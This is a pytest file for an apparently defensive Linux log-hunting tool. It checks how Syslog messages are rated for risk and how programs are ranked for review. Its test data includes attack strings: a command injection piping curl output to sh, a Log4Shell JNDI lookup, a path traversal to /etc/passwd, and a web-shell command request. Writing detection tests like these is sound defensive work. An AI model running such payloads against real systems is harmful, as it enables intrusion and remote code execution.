"""Risky messages, and which programs to look at first."""

from __future__ import annotations

from typing import Any

import pandas as pd
import pytest

from linuxhunt.schema import STR, TIME
from linuxhunt.sections.finding import Finding
from linuxhunt.sections.program_risks import RISKS, SIEVE
from linuxhunt.sections.programs import RiskyMessages, basename, label, named, ranked, risky
from tests.made import events, utc

START = utc("2026-03-12 10:00")


def messages(*lines: tuple[str | None, str | None]) -> pd.DataFrame:
    """Rows of Syslog, one a pair of program and message."""
    columns: dict[Any, Any] = {
        "TimeGenerated": TIME, "Computer": STR, "ProcessName": STR, "SyslogMessage": STR,
        "_ItemId": STR,
    }  # fmt: skip
    rows = [
        {
            "TimeGenerated": START + pd.Timedelta(seconds=number), "Computer": "web01",
            "ProcessName": program, "SyslogMessage": text, "_ItemId": f"m:{number}",
        }
        for number, (program, text) in enumerate(lines)
    ]  # fmt: skip
    return pd.DataFrame(rows, columns=list(columns)).astype(columns)


ACCESS = '203.0.113.9 - - [12/Mar/2026:10:00:00 +0000] "{} HTTP/1.1" {} 512 "-" "-"'
SPEAKS = [
    pytest.param("kernel", "sudo[812]: segfault at 7f0 ip 000055d0 sp 00007ffd error 4 in sudo",
                 "Crash of a program that runs as root for anybody", "Medium", id="sudo crashes"),
    pytest.param("kernel", "[ 12.5] nginx[812]: segfault at 0 ip 0 sp 0 error 4 in nginx",
                 "Crash of a network service", "Low", id="nginx crashes"),
    pytest.param("kernel", "firefox[812]: segfault at 0 ip 0 sp 0 error 4 in libxul.so",
                 "Crash", "Informational", id="any program crashes"),
    pytest.param("pkexec", "ana: The value for the SHELL variable was not found the /etc/shells"
                 " file [USER=root] [TTY=/dev/pts/0]", "Exploit of pkexec", "High", id="pkexec"),
    pytest.param("kernel", "process 'x' launched '/usr/bin/pkexec' with NULL argv: empty string"
                 " added", "Program started without arguments", "Medium", id="no arguments"),
    pytest.param("kernel", "veiled: loading out-of-tree module taints kernel.",
                 "Kernel module of nobody known", "Medium", id="module of nobody known"),
    pytest.param("kernel", "nvidia: loading out-of-tree module taints kernel.",
                 "Kernel module of nobody known", "Low", id="module of a maker"),
    pytest.param("kernel", "loader[812] is installing a program with bpf_probe_write_user helper"
                 " that may corrupt user memory!",
                 "Program that writes other programs' memory by BPF", "Medium", id="BPF"),
    pytest.param("cron", "ERROR: ld.so: object '/lib/x.so' from /etc/ld.so.preload cannot be"
                 " preloaded (cannot open shared object file): ignored.",
                 "Library loaded into every program", "Medium", id="preload"),
    pytest.param("apache2", "sh: 1: wgett: not found",
                 "Shell's own error in a web server's log", "Medium", id="shell in a web server"),
    pytest.param("httpd", "HTTP request sent, awaiting response... 200 OK",
                 "Download's output in a web server's log", "High", id="wget in a web server"),
    pytest.param("php-fpm", "PHP Notice: Undefined variable x in /srv/a.php(3) : eval()'d code on"
                 " line 1", "PHP code made at run time", "Medium", id="eval"),
    pytest.param("nginx", ACCESS.format("GET /uploads/a.php?cmd=id", 200),
                 "Request with a command for a web shell answered", "Medium", id="web shell"),
    pytest.param("nginx", ACCESS.format("POST /files/logo.php", 200),
                 "Script in a folder of uploads answered", "Medium", id="script among uploads"),
    pytest.param("java", "Error looking up JNDI resource [ldap://203.0.113.9:1389/a].",
                 "JNDI lookup reached the application", "Medium", id="JNDI followed"),
    pytest.param("nginx", ACCESS.format("GET /?x=${jndi:ldap://203.0.113.9/a}", 200),
                 "Exploit string", "Low", id="JNDI asked"),
    pytest.param("nginx", ACCESS.format("GET /../../../../etc/passwd", 400),
                 "Exploit string", "Low", id="traversal refused"),
    pytest.param("app", "ping: 8.8.8.8;curl 203.0.113.9/x|sh: bad address",
                 "Exploit string", "Medium", id="command in an application's log"),
    pytest.param("kernel", 'audit: type=1400 audit(1.1:1): apparmor="DENIED" operation="exec"'
                 ' class="file" profile="/usr/sbin/nginx" name="/usr/bin/bash" pid=7 comm="nginx"',
                 "AppArmor kept a service from a shell", "Medium", id="apparmor kept from a shell"),
    pytest.param("kernel", 'audit: apparmor="DENIED" operation="open" profile="/usr/sbin/cupsd"'
                 ' name="/etc/x" pid=7 comm="cupsd"', "AppArmor or SELinux denied something",
                 "Informational", id="apparmor and cups"),
    pytest.param("kernel", "Out of memory: Killed process 812 (java) total-vm:8000kB",
                 "Memory ran out", "Low", id="java ended for memory"),
    pytest.param("kernel", "usb-storage 1-1:1.0: USB Mass Storage device detected",
                 "Storage plugged in", "Low", id="USB"),
    pytest.param("kernel", "device eth0 entered promiscuous mode",
                 "Network card listens to everybody's packets", "Low", id="promiscuous"),
    pytest.param("cron", "(*system*x) INSECURE MODE (group/other writable) (/etc/cron.d/x)",
                 "cron refuses a table", "Low", id="table refused"),
]  # fmt: skip
SILENT = [
    pytest.param("kernel", "device veth12ab entered promiscuous mode", id="container's card"),
    pytest.param("nginx", ACCESS.format("GET /index.html", 200), id="plain request"),
    pytest.param("nginx", ACCESS.format("POST /index.php", 200), id="plain script"),
    pytest.param("sshd", "Failed password for root from 203.0.113.9 port 22 ssh2", id="ssh"),
    pytest.param("systemd", "Started Daily apt upgrade and clean activities.", id="systemd"),
    pytest.param("app", "user ana logged in; curl is a fine program", id="prose"),
]


@pytest.mark.parametrize(("program", "text", "title", "severity"), SPEAKS)
def test_what_a_message_means(program: str, text: str, title: str, severity: str) -> None:
    found = risky(messages((program, text)))
    risks = [RISKS[number] for number in found["Risk"]]
    assert (title, severity) in [(risk.title, risk.severity) for risk in risks]
    assert {risk.severity for risk in risks} <= {severity, "Low", "Informational"}


@pytest.mark.parametrize(("program", "text"), SILENT)
def test_ordinary_messages_mean_nothing(program: str, text: str) -> None:
    assert risky(messages((program, text))).empty


@pytest.mark.parametrize(("program", "text"), [p.values[:2] for p in SPEAKS])
def test_the_sieve_of_the_engine_lets_all_risky_messages_through(program: str, text: str) -> None:
    import duckdb

    with duckdb.connect() as con:
        fits = con.execute("SELECT regexp_matches(?, ?)", [text, f"(?i){SIEVE}"]).fetchone()
    assert fits == (True,)


def test_one_finding_for_each_program_and_risk_with_all_lines() -> None:
    crash = "{}[1]: segfault at 0 ip 0 sp 0 error 4 in x"
    rows = messages(
        ("kernel", crash.format("sudo")), ("apache2", "sh: 1: x: not found"),
        ("kernel", crash.format("su")), ("/usr/sbin/apache2", "sh: 1: y: not found"),
        (None, None),
    )  # fmt: skip
    found = RiskyMessages().run({"risky messages": rows})
    shown = [
        (f.title, f.severity, f.records, f.start, f.end)
        for f in found
        if f.severity != "Informational"
    ]
    assert shown == [
        ("Crash of a program that runs as root for anybody: kernel", "Medium", ("m:0", "m:2"),
         START, START + pd.Timedelta(seconds=2)),
        ("Shell's own error in a web server's log: apache2", "Medium", ("m:1", "m:3"),
         START + pd.Timedelta(seconds=1), START + pd.Timedelta(seconds=3)),
    ]  # fmt: skip
    assert found[-1].reason.endswith("2 lines, the first: sh: 1: x: not found")
    assert {f.host for f in found} == {"web01"}


@pytest.mark.parametrize(("lines", "severity"), [(19, "Informational"), (20, "Low")])
def test_some_risks_are_bursts(lines: int, severity: str) -> None:
    rows = messages(*[("app", f"open /srv/{n}: Permission denied") for n in range(lines)])
    assert [f.severity for f in RiskyMessages().run({"risky messages": rows})] == [severity]


def test_no_message_is_no_finding() -> None:
    assert RiskyMessages().run({"risky messages": messages()}) == []


def test_programs_are_ranked_by_what_is_worth_a_look() -> None:
    programs = pd.DataFrame({"ProcessName": ["app", "/usr/sbin/apache2", "apache2", "cron"],
                             "Rows": [90, 5, 5, 7], "Severe": [3, 0, 1, 0]})  # fmt: skip
    processes = events("processes", [
        {"TargetProcessGuid": "a", "TargetProcessName": "/usr/bin/curl", "EventResult": "Success"},
        {"TargetProcessGuid": "b", "TargetProcessName": "/usr/bin/curl", "EventResult": "Success"},
        {"TargetProcessGuid": "c", "TargetProcessName": "/sbin/cron", "EventResult": "NA"},
    ])  # fmt: skip
    said = risky(messages(("apache2", "sh: 1: x: not found")))
    finding = Finding("applications", "x", "High", (), "", START, START, ("r",), process="b")
    table = ranked(programs, processes, said, [finding])
    assert table.to_dict("records") == [
        {"Program": "curl", "Weight": 100, "Rows": 0, "Severe": 0, "Risky": 0, "Runs": 2,
         "Findings": 1},
        {"Program": "apache2", "Weight": 40, "Rows": 10, "Severe": 1, "Risky": 1, "Runs": 0,
         "Findings": 0},
        {"Program": "app", "Weight": 0, "Rows": 90, "Severe": 3, "Risky": 0, "Runs": 0,
         "Findings": 0},
        {"Program": "cron", "Weight": 0, "Rows": 7, "Severe": 0, "Risky": 0, "Runs": 0,
         "Findings": 0},
    ]  # fmt: skip
    assert [label(row) for row in table.to_dict("records")] == [
        "curl (1 finding, 2 runs)",
        "apache2 (1 risky message, 10 lines, 1 error)",
        "app (90 lines, 3 errors)",
        "cron (7 lines)",
    ]
    assert named(programs, "apache2") == ["/usr/sbin/apache2", "apache2"]


@pytest.mark.parametrize(
    ("name", "expected"),
    [("/usr/sbin/cron", "cron"), ("cron", "cron"), ("/", "/"), ("(systemd)", "(systemd)")],
)
def test_names_without_folders(name: str, expected: str) -> None:
    assert basename(pd.Series([name], dtype=STR)).tolist() == [expected]
